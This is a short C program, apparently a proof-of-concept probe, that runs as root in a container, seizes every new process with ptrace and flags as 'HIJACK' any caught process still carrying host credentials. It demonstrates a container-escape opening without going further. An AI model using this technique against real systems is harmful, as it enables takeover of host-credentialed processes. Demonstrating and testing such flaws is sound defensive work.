// Run by root inside a container: seizes (PTRACE_SEIZE) every process that appears, for SECONDS, and
// prints the ids each had when it was caught. A process caught with an id other than the container's
// root still carries its starter's host credentials: "HIJACK".
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <time.h>
#include <unistd.h>

static char seen[1 << 16];

int main(int argc, char **argv) {
    int seconds = argc > 1 ? atoi(argv[1]) : 10;
    time_t end = time(NULL) + seconds;
    int seized = 0;
    seen[getpid() & 0xffff] = 1;
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc != NULL && (entry = readdir(proc)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || seen[pid & 0xffff]) continue;
            seen[pid & 0xffff] = 1;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) continue;
            char path[64], line[256];
            snprintf(path, sizeof path, "/proc/%d/status", pid);
            FILE *status = fopen(path, "r");
            while (status != NULL && fgets(line, sizeof line, status) != NULL) {
                if (strncmp(line, "Uid:", 4) != 0) continue;
                unsigned uid = 0;
                sscanf(line + 4, "%u", &uid);
                printf("%s pid %d uid %u\n", uid == 0 ? "seized" : "HIJACK", pid, uid);
                fflush(stdout);
                seized++;
            }
            if (status != NULL) fclose(status);
        }
        if (proc != NULL) closedir(proc);
    }
    printf("done, %d seized\n", seized);
    return 0;
}
